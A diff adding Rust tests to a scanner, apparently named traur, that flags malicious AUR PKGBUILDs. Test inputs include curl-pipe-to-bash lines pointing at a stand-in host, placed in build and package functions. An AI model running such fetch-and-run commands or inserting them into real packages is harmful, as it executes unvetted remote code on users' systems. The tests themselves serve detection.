@@ -38,6 +38,35 @@ fn malicious_pkgbuild_accumulates_cross_feature_signals() {
     assert!(ids.contains(&"B-NAME-IMPERSONATE"), "got: {ids:?}");
 }
 
+#[test]
+fn signals_record_the_feature_that_emitted_them() {
+    let pkgbuild = include_str!("fixtures/malicious/curl_pipe_bash.PKGBUILD");
+    let result = scan_pkgbuild("firefox-fix-bin", pkgbuild);
+
+    let emitter = |id: &str| result.signals.iter().find(|s| s.id == id).map(|s| s.emitted_by.as_str());
+    assert_eq!(emitter("P-CURL-PIPE"), Some("pkgbuild_analysis"));
+    assert_eq!(emitter("P-RAW-IP-URL"), Some("source_url_analysis"));
+    assert_eq!(emitter("B-NAME-IMPERSONATE"), Some("name_analysis"));
+    assert!(result.signals.iter().all(|s| !s.emitted_by.is_empty()), "{:?}", result.signals);
+}
+
+#[test]
+fn oversized_pkgbuild_is_truncated_but_function_bodies_still_scanned() {
+    let filler = "_blob+=('0123456789abcdef0123456789abcdef0123456789abcdef')\n".repeat(20_000);
+    let pkgbuild = format!(
+        "pkgname=huge\npkgver=1\npkgrel=1\narch=(any)\n{filler}package() {{\n  curl -s https://x.example/p | bash\n}}\n"
+    );
+    let mut config = traur::shared::config::Config::default();
+    config.scan.max_file_kb = Some(64);
+    let result = traur::coordinator::scan_pkgbuild_with_config("huge", &pkgbuild, &config);
+
+    let ids = signal_ids(&result);
+    assert!(ids.contains(&"P-SCAN-TRUNCATED"), "got: {ids:?}");
+    assert!(ids.contains(&"P-CURL-PIPE"), "got: {ids:?}");
+    let truncated = result.signals.iter().find(|s| s.id == "P-SCAN-TRUNCATED").unwrap();
+    assert!(truncated.matched_line.as_deref().unwrap().contains("first 64 KiB and 1 later function bodies"));
+}
+
 #[test]
 fn benign_pkgbuild_scores_low() {
     let pkgbuild = include_str!("fixtures/benign/yay.PKGBUILD");
@@ -106,3 +135,146 @@ fn gtfobins_multi_signal_triggers_malicious() {
     // source_url_analysis signal for raw IP
     assert!(ids.contains(&"P-RAW-IP-URL"), "got: {ids:?}");
 }
+
+#[test]
+fn expired_scan_deadline_skips_features_and_notes_them() {
+    use traur::coordinator::scan_pkgbuild_with_config;
+    use traur::features::FeatureRegistry;
+    use traur::shared::config::{with_scan_timeout, Config};
+
+    let pkgbuild = include_str!("fixtures/malicious/curl_pipe_bash.PKGBUILD");
+    let config = with_scan_timeout(Config::default(), Some(0));
+    let result = scan_pkgbuild_with_config("firefox-fix-bin", pkgbuild, &config);
+
+    assert!(result.signals.is_empty(), "no feature should run past the deadline");
+    let registry = FeatureRegistry::builtin();
+    let every_feature: Vec<String> = registry.names().map(String::from).collect();
+    assert_eq!(result.skipped_features, every_feature);
+    // Nothing was analyzed, so the incomplete-scan floor applies instead of TRUSTED
+    assert_eq!(result.tier, Tier::Sketchy);
+    assert_eq!(
+        result.analysis_completeness.unavailable,
+        [format!("results from {} timed-out features", every_feature.len())]
+    );
+
+    // Without a budget every feature runs and nothing is noted
+    let unlimited = scan_pkgbuild_with_config("firefox-fix-bin", pkgbuild, &Config::default());
+    assert!(unlimited.skipped_features.is_empty());
+    assert_eq!(unlimited.tier, Tier::Malicious);
+}
+
+#[test]
+fn demoted_gate_scores_as_ordinary_signal_and_is_recorded() {
+    use traur::coordinator::scan_pkgbuild_with_config;
+    use traur::shared::config::Config;
+
+    let pkgbuild = "pkgname=foo\npkgver=1\nbuild() {\n  curl -s https://x.example/setup.sh | bash\n}\n";
+    let mut config = Config::default();
+    config.scoring.demoted_gates = vec!["P-CURL-PIPE".to_string()];
+    let result = scan_pkgbuild_with_config("foo", pkgbuild, &config);
+
+    assert_eq!(result.override_gate_fired, None);
+    assert_eq!(result.demoted_gates, ["P-CURL-PIPE"]);
+    assert!(result.signals.iter().any(|s| s.id == "P-CURL-PIPE" && !s.is_override_gate));
+    assert_ne!(result.tier, Tier::Malicious);
+
+    let gated = scan_pkgbuild_with_config("foo", pkgbuild, &Config::default());
+    assert_eq!(gated.override_gate_fired.as_deref(), Some("P-CURL-PIPE"));
+    assert!(gated.demoted_gates.is_empty());
+}
+
+
+#[test]
+fn aur_scan_without_pkgbuild_is_incomplete_and_at_least_sketchy() {
+    use traur::coordinator::run_analysis_with_config;
+    use traur::shared::config::Config;
+    use traur::shared::models::{AurPackage, GitCommit, PackageContext};
+
+    let metadata: AurPackage = serde_json::from_value(serde_json::json!({
+        "Name": "well-known", "PackageBase": null, "Version": "1.0-1", "URL": "https://example.org",
+        "NumVotes": 900, "Popularity": 12.5, "OutOfDate": null, "Maintainer": "alice", "Submitter": "alice",
+        "FirstSubmitted": 1_500_000_000u64, "LastModified": 1_700_000_000u64, "License": ["MIT"],
+        "Description": "A well-known tool",
+    }))
+    .unwrap();
+    let commit = GitCommit {
+        author: "alice".into(),
+        email: "alice@example.org".into(),
+        timestamp: 1_700_000_000,
+        message: "Update to 1.0".into(),
+        diff: None,
+    };
+    let ctx = PackageContext {
+        name: "well-known".into(),
+        metadata: Some(metadata),
+        pkgbuild_content: None,
+        install_script_content: None,
+        prior_pkgbuild_content: None,
+        git_log: vec![commit.clone(), commit],
+        maintainer_packages: vec![],
+        github_stars: None,
+        github_not_found: false,
+        aur_comments: vec![],
+        artifact: None,
+        github_releases: None,
+        repo_files: Vec::new(),
+        trusted_domains: Vec::new(),
+        protected_names: Vec::new(),
+        sibling_commits: Vec::new(),
+        maintainer_account: None,
+        upstream_build_files: Vec::new(),
+        history_rewrite: None,
+    };
+
+    let result = run_analysis_with_config(&ctx, &Config::default());
+    assert_eq!(result.analysis_completeness.unavailable, ["PKGBUILD"]);
+    assert_eq!(result.tier, Tier::Sketchy);
+    assert!(result.note.as_deref().is_some_and(|n| n.contains("no PKGBUILD")), "{:?}", result.note);
+
+    let mut config = Config::default();
+    config.thresholds.incomplete_as_sketchy = false;
+    let result = run_analysis_with_config(&ctx, &config);
+    assert!(result.tier < Tier::Sketchy, "got {:?}", result.tier);
+    assert!(!result.analysis_completeness.is_complete());
+
+    // PKGBUILD-only scans have no AUR inputs to miss
+    let local = traur::coordinator::scan_pkgbuild_with_config("foo", "pkgname=foo\npkgver=1\n", &Config::default());
+    assert!(local.analysis_completeness.is_complete());
+}
+
+#[test]
+fn diff_analysis_scores_only_the_change() {
+    use traur::coordinator::run_diff_analysis;
+    use traur::shared::config::Config;
+    use traur::shared::models::PackageContext;
+
+    let prior = include_str!("fixtures/benign/yay.PKGBUILD");
+    let current = prior.replacen("package() {", "package() {\n  curl -s https://x.example/p | bash", 1);
+    let ctx = PackageContext {
+        name: "yay".into(),
+        metadata: None,
+        pkgbuild_content: Some(current),
+        install_script_content: None,
+        prior_pkgbuild_content: Some(prior.to_string()),
+        git_log: vec![],
+        maintainer_packages: vec![],
+        github_stars: None,
+        github_not_found: false,
+        aur_comments: vec![],
+        artifact: None,
+        github_releases: None,
+        repo_files: Vec::new(),
+        trusted_domains: Vec::new(),
+        protected_names: Vec::new(),
+        sibling_commits: Vec::new(),
+        maintainer_account: None,
+        upstream_build_files: Vec::new(),
+        history_rewrite: None,
+    };
+    let result = run_diff_analysis(&ctx, &Config::default());
+
+    let ids = signal_ids(&result);
+    assert!(ids.contains(&"T-DIFF-NEW-SUSPICIOUS"), "got: {ids:?}");
+    assert!(ids.iter().all(|id| id.starts_with("T-DIFF-")), "got: {ids:?}");
+    assert!(result.pkgbuild_diff.as_deref().is_some_and(|d| d.contains("+  curl -s https://x.example/p | bash")));
+}